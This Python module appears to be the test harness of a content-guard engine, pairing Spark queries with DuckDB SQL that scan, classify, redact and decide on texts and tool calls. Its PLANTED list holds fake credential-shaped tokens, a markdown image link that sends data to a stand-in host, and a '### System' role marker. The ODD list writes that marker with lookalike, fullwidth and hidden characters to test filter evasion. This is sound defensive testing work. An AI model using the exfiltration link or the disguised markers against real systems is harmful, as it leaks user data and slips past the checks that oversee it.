"""Queries of the engine over the driver's tables, each with its DuckDB counterpart where SQL can express it.

Mappings: documents and pages are payload texts; events are tool calls (user, type, props); conversations
are exchanges (user and system turns ask, assistant turns answer; a question and its answer share an id).
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from wardline.functions import identity, text
from wardline.functions.patterns import CATEGORIES, DEFAULT_CATEGORY, EGRESS_REDACTIONS, LOOK_LIKE, LOOKALIKES, PATTERNS, REDACTIONS, SEVERITY
from wardline.functions.redact import json_redactor, placeholder, redact, redaction_gate, tagged
from wardline.functions.scan import clean, fence, first_index, has, hit, result, scan
from wardline.operators import audit, classify, decide, fold, rules, trace
from wardline.plans.config import Config
from wardline.plans.engine import decide as decide_exchanges
from wardline.plans.engine import scan_texts
from wardline.sources import audit_log, exchanges
from wardline.sources.ranges import new_folder
from wardline.streaming import reports
from wardline.streaming.replay import thirds, through_stream
from wardline.streaming.traces import rate_windows, trace_stream, traced_stream

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
ORACLE_SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def add(f: Callable[[SparkSession, str], DataFrame]):
        QUERIES[f.__name__] = f
        if sql:
            ORACLE_SQL[f.__name__] = sql
        return f

    return add


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def texts(spark: SparkSession, sf_dir: str, name: str = "documents") -> DataFrame:
    """A table of long texts for work that costs more than moving them: on all cores, even if it is one small file."""
    return exchanges.spread(table(spark, sf_dir, name))


def quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


# ---------------------------------------------------------------- content scans

#: Literals of every kind that the tables don't hold, put together here so that no scanner takes this file for a leak.
PLANTED = ["AK" + "IA" + "Q" * 16, "AS" + "IA" + "7" * 16, "AI" + "za" + "b" * 35, "gh" + "p_" + "c" * 36, "glp" + "at-" + "d" * 20, "xo" + "xb-" + "1" * 12, "s" + "k-" + "e" * 24, "ey" + "J" + "f" * 12 + "." + "g" * 12 + ".hhhh", "redis" + "://user:pw@host:6379", "pass" + "word=" + "swordfish1", "![a](https://x.example/p?d=" + "i" * 40 + ")", "j" * 44, "4111 1111 1111 1111", "a.b@example.com", "### System", "-----BEGIN " + "RSA PRIVATE KEY-----", ""]


def planted(key: Column, value: Column) -> Column:
    """The text with one literal at its end, by key."""
    branch = F
    for k, p in enumerate(PLANTED):
        branch = branch.when(key % len(PLANTED) == k, p)
    return F.concat(value, F.lit(" "), branch)


SQL_PLANTED = "text || ' ' || CASE " + " ".join(f"WHEN doc_id % {len(PLANTED)} = {k} THEN {quoted(p)}" for k, p in enumerate(PLANTED)) + " END"
SQL_INDEX = "CASE " + " ".join(f"WHEN regexp_matches(t, {quoted(p.regex)}) THEN {k}" for k, p in enumerate(PATTERNS)) + " ELSE -1 END"


def sql_by_index(value: Callable, other: str) -> str:
    return "CASE i " + " ".join(f"WHEN {k} THEN {value(p)}" for k, p in enumerate(PATTERNS)) + f" ELSE {other} END"


SQL_SCANNER = sql_by_index(lambda p: quoted(f"regex:{p.name}"), "'regex'")
SQL_OUTCOME = sql_by_index(lambda p: quoted(p.outcome), "'allow'")
SQL_SCORE = sql_by_index(lambda p: f"{p.score}::DOUBLE", "0.0::DOUBLE")


def _sql_print(p) -> str:
    shown = f"'match_len=' || length(regexp_extract(t, {quoted(p.regex)}))"
    return f"{quoted(p.reason + ' (')} || {shown}" + (f" || ' match_sha256=' || substr(sha256(regexp_extract(t, {quoted(p.regex)})), 1, 12)" if p.high_entropy else "") + " || ')'"


SQL_REASON = sql_by_index(_sql_print, "''")
SQL_TEXTS = f"WITH s AS (SELECT doc_id, text AS t FROM documents), h AS (SELECT *, {SQL_INDEX} AS i FROM s)"
SQL_PLANTS = f"WITH s AS (SELECT doc_id, {SQL_PLANTED} AS t FROM documents), h AS (SELECT *, {SQL_INDEX} AS i FROM s)"
SQL_DECIDED = SQL_PLANTS + f", v AS (SELECT doc_id, t, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS o, {SQL_REASON} AS r, {SQL_SCORE} AS score FROM h)"


def plants(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = texts(spark, sf_dir)
    return docs.select("doc_id", planted(F.col("doc_id"), F.col("text")).alias("t"))


def first_hits(df: DataFrame, name: str) -> DataFrame:
    """The first-match verdict without the normalized pass, which SQL can't express."""
    return df.withColumn("i", fence(first_index(F.col(name)))).withColumn("scan", F.coalesce(hit(F.col(name), F.col("i")), clean()))


@query(SQL_TEXTS + f" SELECT {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS outcome, count(*) AS n FROM h GROUP BY ALL")
def scan_outcomes(spark, sf_dir):
    """Verdicts of all documents, counted."""
    return first_hits(texts(spark, sf_dir).select("text"), "text").groupBy("scan.scanner", "scan.outcome").agg(F.count("*").alias("n"))


@query(SQL_TEXTS + f" SELECT doc_id, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS outcome, {SQL_SCORE} AS score FROM h")
def scan_first_match(spark, sf_dir):
    return first_hits(texts(spark, sf_dir).select("doc_id", "text"), "text").select("doc_id", "scan.scanner", "scan.outcome", "scan.score")


@query(SQL_TEXTS + f" SELECT doc_id, {SQL_REASON} AS reason FROM h")
def scan_fingerprint(spark, sf_dir):
    return first_hits(texts(spark, sf_dir).select("doc_id", "text"), "text").select("doc_id", "scan.reason")


@query(SQL_PLANTS + f" SELECT doc_id, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS outcome, {SQL_REASON} AS reason FROM h")
def scan_injected(spark, sf_dir):
    return first_hits(plants(spark, sf_dir), "t").select("doc_id", "scan.scanner", "scan.outcome", "scan.reason")


@query("SELECT " + ", ".join(f"count(*) FILTER (regexp_matches(text, {quoted(p.regex)})) AS {p.name}" for p in PATTERNS) + " FROM documents")
def scan_all_patterns(spark, sf_dir):
    docs = texts(spark, sf_dir)
    return docs.agg(*(F.count_if(has(F.col("text"), p)).alias(p.name) for p in PATTERNS))


@query(f"WITH s AS (SELECT page_id, html AS t FROM pages), h AS (SELECT *, {SQL_INDEX} AS i FROM s) SELECT page_id, {SQL_SCANNER} AS scanner, {SQL_OUTCOME} AS outcome FROM h")
def scan_pages(spark, sf_dir):
    return first_hits(texts(spark, sf_dir, "pages").select("page_id", "html"), "html").select("page_id", "scan.scanner", "scan.outcome")


#: A marker written with a lookalike letter, with wide letters, with a hidden character, and a word that is none.
ODD = ("### ЅYSTEM", "＃＃＃ ＳＹＳＴＥＭ", "### SY\u00adSTEM", "### Συνολο")
_SEVERITY = lambda i: f"CASE {i} " + " ".join(f"WHEN {k} THEN {SEVERITY[p.outcome]}" for k, p in enumerate(PATTERNS)) + " ELSE -1 END"
_IN_VIEW = "CASE j " + " ".join(f"WHEN {k} THEN {quoted(p.reason)} || ' [normalized-view match] (match_len=' || length(regexp_extract(w, {quoted(p.regex)})) || ' orig_sha256=' || substr(sha256(t), 1, 12) || ')'" for k, p in enumerate(PATTERNS)) + " END"
#: The view as far as these texts need it: wide letters, the soft hyphen, lookalikes.
SQL_NORMALIZED = f"""WITH a AS (SELECT doc_id, text || ' ' || CASE doc_id % 4 {" ".join(f"WHEN {k} THEN {quoted(o)}" for k, o in enumerate(ODD))} END AS t FROM documents),
    s AS (SELECT doc_id, t, replace(translate(translate(t, '＃ＳＹＴＥＭ', '#SYTEM'), '{LOOKALIKES}', '{LOOK_LIKE}'), chr(173), '') AS w FROM a),
    h AS (SELECT *, {SQL_INDEX} AS i FROM s), g AS (SELECT *, CASE WHEN w <> t AND strlen(t) <> length(t) AND {_SEVERITY("i")} < 2 THEN {SQL_INDEX.replace("regexp_matches(t,", "regexp_matches(w,")} ELSE -1 END AS j FROM h),
    b AS (SELECT *, j >= 0 AND {_SEVERITY("j")} > {_SEVERITY("i")} AS seen FROM g)
    SELECT doc_id, CASE WHEN seen THEN {SQL_SCANNER.replace("CASE i", "CASE j")} ELSE {SQL_SCANNER} END AS scanner, CASE WHEN seen THEN {SQL_OUTCOME.replace("CASE i", "CASE j")} ELSE {SQL_OUTCOME} END AS outcome, CASE WHEN seen THEN {_IN_VIEW} ELSE {SQL_REASON} END AS reason FROM b"""


@query(SQL_NORMALIZED)
def scan_normalized(spark, sf_dir):
    """Documents that end in a marker written in an odd way, through both passes."""
    odd = F.element_at(F.array(*map(F.lit, ODD)), (F.col("doc_id") % 4 + 1).cast("int"))
    docs = texts(spark, sf_dir).select("doc_id", F.concat("text", F.lit(" "), odd).alias("t"))
    return scan(docs, "t").select("doc_id", "scan.scanner", "scan.outcome", "scan.reason")


# ---------------------------------------------------------------- windows and sizes


def _sql_cut(at: str, step: int) -> str:
    """The character boundary at `at` bytes or the next one back (step -1) or forward; h is the text's bytes in hex."""
    inside = lambda k: f"substr(h, CAST(2 * ({at} + {k * step}) + 1 AS BIGINT), 1) IN ('8', '9', 'A', 'B')"
    return f"({at} + {step} * CASE WHEN NOT {inside(0)} THEN 0 WHEN NOT {inside(1)} THEN 1 WHEN NOT {inside(2)} THEN 2 ELSE 3 END)"


_part = lambda a, b: f"CASE WHEN {b} > {a} THEN decode(unhex(substr(h, CAST(2 * {a} + 1 AS BIGINT), CAST(2 * ({b} - {a}) AS BIGINT)))) END"
SQL_WINDOWS = f"""WITH w0 AS (SELECT doc_id, text, hex(encode(text)) AS h, strlen(text) AS n FROM documents WHERE strlen(text) > 1024),
    w1 AS (SELECT *, {_sql_cut("1024", -1)} AS b1 FROM w0), w2 AS (SELECT *, greatest(b1, n - 256) AS s3 FROM w1), w3 AS (SELECT *, greatest(b1, (b1 + s3) // 2 - 128) AS m FROM w2),
    w4 AS (SELECT *, {_sql_cut("m", 1)} AS a2, {_sql_cut("least(m + 256, n)", -1)} AS b2, {_sql_cut("(n - 256)", 1)} AS a3 FROM w3),
    w5 AS (SELECT doc_id, n, {_part("0", "b1")} AS p1, CASE WHEN s3 - b1 > 1 THEN {_part("a2", "b2")} END AS p2, {_part("a3", "n")} AS p3 FROM w4),
    w6 AS (SELECT doc_id, n, [p1] || CASE WHEN p2 <> p1 THEN [p2] ELSE [] END || CASE WHEN p3 <> p1 AND p3 IS DISTINCT FROM p2 THEN [p3] ELSE [] END AS parts FROM w5 UNION ALL SELECT doc_id, strlen(text), [text] FROM documents WHERE strlen(text) <= 1024)"""


@query(SQL_WINDOWS + ", x AS (SELECT doc_id, generate_subscripts(parts, 1) - 1 AS part, unnest(parts) AS chunk FROM w6) SELECT doc_id, CAST(part AS INTEGER) AS part, CAST(strlen(chunk) AS INTEGER) AS bytes, md5(chunk) AS md5 FROM x")
def byte_windows(spark, sf_dir):
    docs = text.scan_windows(table(spark, sf_dir, "documents").select("doc_id", "text"), "text", "chunks", 1024, 256)
    return docs.select("doc_id", F.posexplode("chunks").alias("part", "chunk")).select("doc_id", "part", F.octet_length("chunk").alias("bytes"), F.md5("chunk").alias("md5"))


@query(SQL_WINDOWS + " SELECT doc_id, n AS total_bytes, least(n, CAST(list_sum(list_transform(parts, lambda p: strlen(p))) AS BIGINT)) AS scanned_bytes, n > 1024 AS truncated FROM w6")
def scan_coverage(spark, sf_dir):
    docs = text.scan_windows(table(spark, sf_dir, "documents").select("doc_id", "text"), "text", "chunks", 1024, 256)
    return docs.select("doc_id", *(c.alias(n) for n, c in text.coverage(F.col("text"), F.col("chunks"), 1024).items()))


@query(f"WITH a AS (SELECT doc_id, text, hex(encode(text)) AS h, strlen(text) AS n FROM documents) SELECT doc_id, md5(CASE WHEN n <= 777 THEN text ELSE {_part('0', _sql_cut('777', -1))} END) AS md5 FROM a")
def truncate_text(spark, sf_dir):
    return table(spark, sf_dir, "documents").select("doc_id", F.md5(text.truncate(F.col("text"), 777)).alias("md5"))


@query("SELECT doc_id, strlen(text) AS total_bytes, CASE WHEN strlen(text) > 4096 THEN 'human_review' END AS outcome FROM documents")
def payload_size(spark, sf_dir):
    total = F.octet_length("text").cast("long")
    return table(spark, sf_dir, "documents").select("doc_id", total.alias("total_bytes"), text.payload_size(total, total, 4096)["outcome"].alias("outcome"))


@query("SELECT doc_id, substr(sha256(text), 1, 12) AS payload_sha256, strlen(text) AS bytes FROM documents")
def payload_digest(spark, sf_dir):
    return table(spark, sf_dir, "documents").select("doc_id", text.payload_digest(F.col("text")).alias("payload_sha256"), text.payload_bytes(F.col("text")).alias("bytes"))


# ---------------------------------------------------------------- classifier


@query(
    """WITH a AS (SELECT doc_id, len(string_split(text, ' ')) AS n FROM documents),
    b AS (SELECT *, least(greatest(4, (n - 512 + 448) // 448 + 1), 16) AS budget, range(0, n - 511, 448) AS starts FROM a WHERE n > 512),
    c AS (SELECT doc_id, n, starts[1 : budget - 1] AS s FROM b),
    d AS (SELECT doc_id, CASE WHEN s[len(s)] = n - 512 THEN s ELSE list_append(s, n - 512) END AS s FROM c UNION ALL SELECT doc_id, [0] FROM a WHERE n <= 512)
    SELECT doc_id, generate_subscripts(s, 1) - 1 AS part, unnest(s) AS start FROM d"""
)
def token_windows(spark, sf_dir):
    """Windows over the words of texts, as a stand-in for tokens."""
    docs = table(spark, sf_dir, "documents").select("doc_id", F.size(F.split("text", " ")).alias("n"))
    return docs.select("doc_id", F.posexplode(text.token_windows(F.col("n"))).alias("part", "start")).select("doc_id", F.col("part").cast("long").alias("part"), F.col("start").cast("long").alias("start"))


@query("SELECT vec_id, round(exp(embedding[len(embedding)] - list_max(embedding)) / list_sum(list_transform(embedding, lambda x: exp(x - list_max(embedding)))), 6) AS score FROM embeddings")
def softmax_last(spark, sf_dir):
    logits = F.col("embedding").cast("array<double>")
    return table(spark, sf_dir, "embeddings").select("vec_id", F.round(text.softmax_last(logits), 6).alias("score"))


@query("SELECT vec_id, CASE WHEN s >= 0.0175 THEN 'block' WHEN s >= 0.0155 THEN 'human_review' ELSE 'allow' END AS outcome, CASE WHEN s >= 0.0155 THEN round(s, 6) ELSE 0.0 END AS score FROM (SELECT vec_id, exp(embedding[len(embedding)] - list_max(embedding)) / list_sum(list_transform(embedding, lambda x: exp(x - list_max(embedding)))) AS s FROM embeddings)")
def classifier_thresholds(spark, sf_dir):
    """The share of the last class of each vector, under thresholds that part the table."""
    found = classify.verdict(text.softmax_last(F.col("embedding").cast("array<double>")), 0.0175, 0.0155)
    return table(spark, sf_dir, "embeddings").select("vec_id", found["outcome"].alias("outcome"), F.round(found["score"], 6).alias("score"))


@query("WITH a AS (SELECT doc_id, least(1.0, 8.0 * len(regexp_extract_all(text, '[A-Z]')) / greatest(1, length(text)))::DOUBLE AS s FROM documents) SELECT doc_id, CASE WHEN s >= 0.9 THEN 'block' WHEN s >= 0.5 THEN 'human_review' ELSE 'allow' END AS outcome, CASE WHEN s >= 0.5 THEN round(s, 6) ELSE 0.0 END AS score FROM a")
def classifier_stage(spark, sf_dir):
    """A stand-in model (share of capitals) through the batch scorer, and its verdicts."""
    run = classify.scorer(classify.stub(_capitals))
    docs = texts(spark, sf_dir).select("doc_id", F.array("text").alias("texts"))
    return classify.classify(docs, "texts", run).select("doc_id", F.inline("classifier")).select("doc_id", "outcome", F.round("score", 6).alias("score"))


def _capitals(value: str) -> float:
    return min(1.0, 8 * sum("A" <= c <= "Z" for c in value) / max(1, len(value)))


@query("WITH a AS (SELECT doc_id, len(string_split(text, ' ')) AS n, CASE WHEN text = '' THEN [] ELSE string_split(text, ' ') END AS w FROM documents), b AS (SELECT doc_id, w, len(w) AS n FROM a), c AS (SELECT doc_id, w, n, least(greatest(4, (n - 16 + 12) // 12 + 1), 6) AS budget, range(0, n - 15, 12) AS g FROM b WHERE n > 16), d AS (SELECT doc_id, w, n, g[1 : budget - 1] AS s FROM c), e AS (SELECT doc_id, w, CASE WHEN s[len(s)] = n - 16 THEN s ELSE list_append(s, n - 16) END AS s FROM d UNION ALL SELECT doc_id, w, [0] FROM b WHERE n <= 16), f AS (SELECT doc_id, unnest(list_transform(s, lambda x: list_sum(list_transform(w[x + 1 : x + 16], lambda t: CASE WHEN length(t) > 9 THEN 1 ELSE 0 END)))) AS hits FROM e) SELECT doc_id, round(1 / (1 + exp(4 - coalesce(max(hits), 0))), 6) AS score FROM f GROUP BY doc_id")
def classifier_windows(spark, sf_dir):
    """The largest score of a text's token windows (16 words, every 12, 6 at most) under a stand-in model that counts long words."""
    make = lambda: classify.windowed(_words, _logits, ("BENIGN", "MALICIOUS"), 16, 4, 6)
    docs = texts(spark, sf_dir).select("doc_id", F.array("text").alias("texts"))
    return docs.select("doc_id", F.inline(classify.scorer(make)("texts"))).select("doc_id", F.round("score", 6).alias("score"))


def _words(value: str) -> list[int]:
    return [len(w) for w in value.split(" ")] if value else []


def _logits(windows: list) -> list:
    return [[0.0, sum(n > 9 for n in w) - 4.0] for w in windows]


# ---------------------------------------------------------------- decisions


def decided(spark: SparkSession, sf_dir: str, mode: str = "pass") -> DataFrame:
    df = first_hits(plants(spark, sf_dir), "t").withColumn("results", fence(F.array("scan")))
    return df.withColumn("d", decide.decision(F.col("results"), mode))


@query(SQL_DECIDED + " SELECT doc_id, o = 'block' AS deny, o = 'human_review' AS human_review, CASE o WHEN 'block' THEN scanner || ':block:' || r WHEN 'human_review' THEN scanner || ':review' ELSE '' END AS reason FROM v")
def decision_pass(spark, sf_dir):
    return decided(spark, sf_dir).select("doc_id", "d.deny", "d.human_review", "d.reason")


@query(SQL_DECIDED + " SELECT doc_id, o <> 'allow' AS deny, CASE o WHEN 'block' THEN scanner || ':block:' || r WHEN 'human_review' THEN scanner || ':human_review_escalated:' || r ELSE '' END AS reason FROM v")
def decision_deny_mode(spark, sf_dir):
    return decided(spark, sf_dir, "deny").select("doc_id", "d.deny", "d.reason")


@query(SQL_DECIDED + " SELECT CASE WHEN o = 'block' THEN 'deny' WHEN doc_id % 3 = 0 THEN 'mutated' ELSE 'allow' END AS wire, CASE WHEN o = 'block' THEN 'deny' WHEN o = 'human_review' THEN 'human_review' WHEN doc_id % 3 = 0 THEN 'mutated' ELSE 'allow' END AS audit, count(*) AS n FROM v GROUP BY ALL")
def outcome_label(spark, sf_dir):
    df, mutated = decided(spark, sf_dir), F.col("doc_id") % 3 == 0
    labels = df.select(decide.wire_outcome(F.col("d.deny"), mutated).alias("wire"), decide.audit_outcome(F.col("d.deny"), F.col("d.human_review"), mutated).alias("audit"))
    return labels.groupBy("wire", "audit").agg(F.count("*").alias("n"))


@query(SQL_DECIDED + f" SELECT doc_id, CASE WHEN o = 'block' THEN {quoted(CATEGORIES['regex'][0])} ELSE {quoted(DEFAULT_CATEGORY[0])} END AS category, CASE WHEN o = 'block' THEN {quoted(CATEGORIES['regex'][1])} ELSE {quoted(DEFAULT_CATEGORY[1])} END AS remedy FROM v")
def deny_category(spark, sf_dir):
    return decided(spark, sf_dir).select("doc_id", F.inline(F.array(decide.deny_category(F.col("results")))))


@query(
    SQL_DECIDED
    + f""", x AS (SELECT doc_id, substr(sha256(CAST(doc_id AS VARCHAR)), 1, 8) AS ref FROM v WHERE o = 'block') SELECT doc_id, '{{"jsonrpc":"2.0","id":null,"error":{{"code":-32001,"message":"denied by content policy (ref ' || ref || ')","data":{{"ref":"' || ref || '","phase":"request","category":"{CATEGORIES["regex"][0]}","remedy":"{CATEGORIES["regex"][1]}"}}}}}}' AS body FROM x"""
)
def error_body(spark, sf_dir):
    """What callers get of a denial."""
    ref = F.substring(F.sha2(F.col("doc_id").cast("string"), 256), 1, 8)
    return decided(spark, sf_dir).where("d.deny").select("doc_id", decide.error_body(F.col("results"), F.lit("request"), ref).alias("body"))


@query(SQL_DECIDED + " SELECT doc_id, score AS scan_score, CASE WHEN o = 'block' THEN 'deny' ELSE 'allow' END AS outcome, CASE WHEN o = 'block' THEN 'denied by content policy (ref ' || substr(sha256(CAST(doc_id AS VARCHAR)), 1, 8) || ')' END AS public_reason FROM v")
def result_metadata(spark, sf_dir):
    df = decided(spark, sf_dir)
    ref = F.substring(F.sha2(F.col("doc_id").cast("string"), 256), 1, 8)
    outcome = decide.wire_outcome(F.col("d.deny"), F.lit(False))
    meta = decide.metadata(F.col("results"), F.lit(0), F.lit(""), outcome)
    return df.select("doc_id", meta["scan_score"].alias("scan_score"), meta["outcome"].alias("outcome"), F.when(F.col("d.deny"), decide.public_reason(F.lit("request"), ref)).alias("public_reason"))


# ---------------------------------------------------------------- redaction


def sql_redaction(source: str, key: str, patterns, of: str = "documents") -> tuple[str, str]:
    """Substitutions one after another, with the matches counted on each intermediate text."""
    steps = [f"WITH r0 AS (SELECT {key} AS k, {source} AS t, 0 AS n FROM {of})"]
    for j, (name, regex) in enumerate(patterns):
        steps.append(f"r{j + 1} AS (SELECT k, regexp_replace(t, {quoted(regex)}, {quoted(placeholder(name))}, 'g') AS t, n + len(regexp_extract_all(t, {quoted(regex)})) AS n FROM r{j})")
    return ", ".join(steps), f"r{len(patterns)}"


for _name, _set in (("redact_default", REDACTIONS), ("redact_egress", EGRESS_REDACTIONS)):
    _with, _last = sql_redaction(SQL_PLANTED, "doc_id", _set)

    def _run(spark, sf_dir, patterns=_set):
        return redact(plants(spark, sf_dir), "t", patterns=patterns).select("doc_id", F.md5("redacted").alias("md5"), "redactions")

    _run.__name__ = _name
    query(_with + f" SELECT k AS doc_id, md5(t) AS md5, CAST(n AS BIGINT) AS redactions FROM {_last}")(_run)

_with, _last = sql_redaction("text", "doc_id", REDACTIONS)


@query(_with + f" SELECT CAST(sum(n) AS BIGINT) AS redactions, count(*) FILTER (n > 0) AS changed FROM {_last}")
def redact_counts(spark, sf_dir):
    df = redact(texts(spark, sf_dir).select("text"), "text")
    return df.agg(F.sum("redactions").alias("redactions"), F.count_if(F.expr("redactions > 0")).alias("changed"))


_with, _last = sql_redaction("text || ' mail a.b@example.com'", "{'c': conv_id, 't': turn}", REDACTIONS, "conversations")


@query(_with + f" SELECT k.c AS conv_id, k.t AS turn, md5(t) AS md5, CAST(n AS BIGINT) AS redactions FROM {_last}")
def redact_json(spark, sf_dir):
    """Strings deep in JSON are masked; they are read back from the ASCII JSON that comes out."""
    talk = table(spark, sf_dir, "conversations")
    payload = F.to_json(F.struct("role", F.array(F.struct(F.concat(F.col("text"), F.lit(" mail a.b@example.com")).alias("text"))).alias("content")))
    masked = talk.select("conv_id", "turn", json_redactor()(payload).alias("r"))
    return masked.select("conv_id", "turn", F.md5(F.get_json_object("r.value", "$.content[0].text")).alias("md5"), "r.redactions")


@query(SQL_DECIDED + " SELECT doc_id, CASE o WHEN 'block' THEN 'denied' WHEN 'human_review' THEN 'review' END AS gate, CASE o WHEN 'block' THEN 'denied' END AS gate_on_review, CASE WHEN o = 'block' THEN scanner || ':block:' || r WHEN o = 'human_review' AND doc_id % 3 > 0 THEN scanner || ':review;redaction:' || doc_id % 3 || ' substitution(s)' WHEN o = 'human_review' THEN scanner || ':review' WHEN doc_id % 3 > 0 THEN 'redaction:' || doc_id % 3 || ' substitution(s)' ELSE '' END AS reason FROM v")
def redaction_gates(spark, sf_dir):
    """What is masked by decision, with and without reviews, and reasons with the number of substitutions."""
    n = F.when(F.col("d.deny"), 0).otherwise(F.col("doc_id") % 3)
    gate = lambda on: redaction_gate(F.col("d.deny"), F.col("d.human_review"), on)
    return decided(spark, sf_dir).select("doc_id", gate(False).alias("gate"), gate(True).alias("gate_on_review"), tagged(F.col("d.reason"), n).alias("reason"))


# ---------------------------------------------------------------- identity and access


@query(
    """SELECT event_id, CASE WHEN event_type = 'error' THEN 'tool ''error'' denied by tool ACL' WHEN event_type NOT IN ('click', 'view', 'signup') THEN 'tool ''' || event_type || ''' not in tool allowlist' END AS reason FROM events"""
)
def acl_verdict(spark, sf_dir):
    return table(spark, sf_dir, "events").select("event_id", identity.acl_verdict(F.col("event_type"), ("click", "view", "signup"), ("error",))["reason"].alias("reason"))


@query("SELECT p_partkey, CASE WHEN starts_with(tool, 'red/') THEN 'denied' WHEN NOT (starts_with(tool, 'blue/') OR tool = 'green/bolt') THEN 'unlisted' ELSE 'open' END AS access FROM (SELECT p_partkey, replace(p_name, ' ', '/') AS tool FROM part)")
def acl_prefixes(spark, sf_dir):
    tool = F.replace(F.col("p_name"), F.lit(" "), F.lit("/"))
    verdict = identity.acl_verdict(tool, ("blue/*", "green/bolt"), ("red/*",))
    access = F.when(verdict["reason"].endswith("ACL"), "denied").when(verdict.isNotNull(), "unlisted").otherwise("open")
    return table(spark, sf_dir, "part").select("p_partkey", access.alias("access"))


def _identified(spark: SparkSession, sf_dir: str) -> DataFrame:
    id_, user = F.col("event_id").cast("string"), F.col("user_id").cast("string")
    meta = F.map_from_arrays(F.array(F.when(F.col("event_id") % 3 == 0, "exchange_id").otherwise("trace_id"), F.lit("route_name")), F.array(F.when(F.col("event_id") % 3 == 1, F.concat(F.lit(" t\t"), id_)).otherwise(F.when(F.col("event_id") % 3 == 0, F.concat(F.lit("x"), id_)).otherwise("")), F.when(F.col("event_id") % 2 == 0, F.col("event_type")).otherwise("")))
    headers = F.map_from_arrays(F.array(F.when(F.col("event_id") % 4 < 2, "X-Request-ID").otherwise("Other"), F.lit("X-Forwarded-User")), F.array(F.concat(F.lit("h"), id_), F.concat(F.lit("u"), user)))
    return table(spark, sf_dir, "events").select("event_id", meta.alias("m"), headers.alias("h"), F.array(F.lit("svc")).alias("s"))


@query("SELECT event_id, CASE event_id % 3 WHEN 0 THEN 'x' || event_id WHEN 1 THEN 't' || event_id ELSE CASE WHEN event_id % 4 < 2 THEN 'h' || event_id ELSE substr(sha256(CAST(event_id AS VARCHAR)), 1, 8) END END AS exchange_id FROM events")
def exchange_id(spark, sf_dir):
    return _identified(spark, sf_dir).select("event_id", identity.exchange_id(F.col("m"), F.col("h"), F.col("event_id")).alias("exchange_id"))


@query("SELECT event_id, 'u' || user_id AS caller FROM events")
def caller(spark, sf_dir):
    return _identified(spark, sf_dir).select("event_id", identity.caller(F.col("h")).alias("caller"))


@query("SELECT event_id, CASE WHEN event_id % 2 = 0 THEN event_type ELSE 'svc' END || '|x-forwarded-user=u' || user_id AS trace_key FROM events")
def trace_key(spark, sf_dir):
    return _identified(spark, sf_dir).select("event_id", identity.trace_key(identity.metadata_value(F.col("m"), "route_name"), F.col("s"), F.col("h"), ("x-forwarded-user",)).alias("trace_key"))


# ---------------------------------------------------------------- flattening


@query("SELECT conv_id, turn, md5(text || chr(10) || 'end ' || role) AS md5 FROM conversations")
def extract_content(spark, sf_dir):
    item = F.array(F.struct(F.lit("text").alias("type"), F.col("text").alias("text")), F.struct(F.lit("text").alias("type"), F.concat(F.lit("end "), F.col("role")).alias("text")))
    got = text.extract_text(F.to_json(F.struct(item.alias("content"))), request=False)
    return table(spark, sf_dir, "conversations").select("conv_id", "turn", got.alias("x")).select("conv_id", "turn", F.md5("x.text").alias("md5"))


@query("""SELECT p_partkey, p_name || chr(10) || '{"brand": "' || p_brand || '"}' AS text FROM part""")
def extract_tools(spark, sf_dir):
    tool = F.struct(F.col("p_name").alias("description"), F.struct(F.col("p_brand").alias("brand")).alias("inputSchema"))
    got = text.extract_text(F.to_json(F.struct(F.array(tool).alias("tools"))), request=False)
    return table(spark, sf_dir, "part").select("p_partkey", got.alias("x")).select("p_partkey", "x.text")


@query("SELECT doc_id, md5(text) AS md5 FROM documents")
def extract_blob(spark, sf_dir):
    """Texts sent as base64 come back as they were."""
    got = text.extract_text(F.to_json(F.struct(F.array(F.struct(F.regexp_replace(F.base64(F.encode("text", "UTF-8")), "\\s", "").alias("blob"))).alias("contents"))), request=False)
    return texts(spark, sf_dir).select("doc_id", got.alias("x")).select("doc_id", F.md5("x.text").alias("md5"))


@query("SELECT conv_id, turn, md5(text || chr(10) || role || chr(10) || 'tail' || chr(10) || '{\"n\": ' || turn || '}') AS md5 FROM conversations")
def extract_messages(spark, sf_dir):
    """Messages whose content is text, a list of parts, and an object without text."""
    part = lambda value: F.to_json(F.struct(value.alias("text")))
    raw = F.concat(F.lit('{"messages": [{"content": '), F.get_json_object(part(F.to_json(F.array("text"))), "$.text"), F.lit('}, {"content": ['), part(F.col("role")), F.lit(', "tail"]}, {"content": {"n": '), F.col("turn").cast("string"), F.lit("}}]}"))
    return table(spark, sf_dir, "conversations").select("conv_id", "turn", text.extract_text(raw, request=False).alias("x")).select("conv_id", "turn", F.md5("x.text").alias("md5"))


@query("SELECT conv_id, turn, md5('{\"a\": ' || to_json(text) || ', \"b\": {\"role\": ' || to_json(role) || '}}') AS md5 FROM conversations")
def extract_dump(spark, sf_dir):
    """A payload without known members is dumped with sorted names."""
    raw = F.to_json(F.struct(F.struct("role").alias("b"), F.col("text").alias("a")))
    return table(spark, sf_dir, "conversations").select("conv_id", "turn", text.extract_text(raw).alias("x")).select("conv_id", "turn", F.md5("x.text").alias("md5"))


@query(r"""WITH a AS (SELECT conv_id, turn, text, role, length(text) + 5 * len(regexp_extract_all(text, '[\x{80}-\x{FFFF}]')) + 11 * len(regexp_extract_all(text, '[\x{10000}-\x{10FFFF}]')) + len(regexp_extract_all(text, '[\n\r\t"\\]')) + length(role) + 24 AS n FROM conversations)
    SELECT conv_id, turn, md5(CASE WHEN n > 300 AND length(text) > 150 THEN left(text, 150) || '…[truncated]' ELSE text END) AS md5, role FROM a""")
def args_shortened(spark, sf_dir):
    """Arguments over 300 characters of JSON: each of two strings keeps 150 of its own."""
    short = text.shortened_json(F.to_json(F.struct("text", "role")), F.lit(300))
    talk = table(spark, sf_dir, "conversations").select("conv_id", "turn", short.alias("a"))
    return talk.select("conv_id", "turn", F.md5(F.get_json_object("a", "$.text")).alias("md5"), F.get_json_object("a", "$.role").alias("role"))


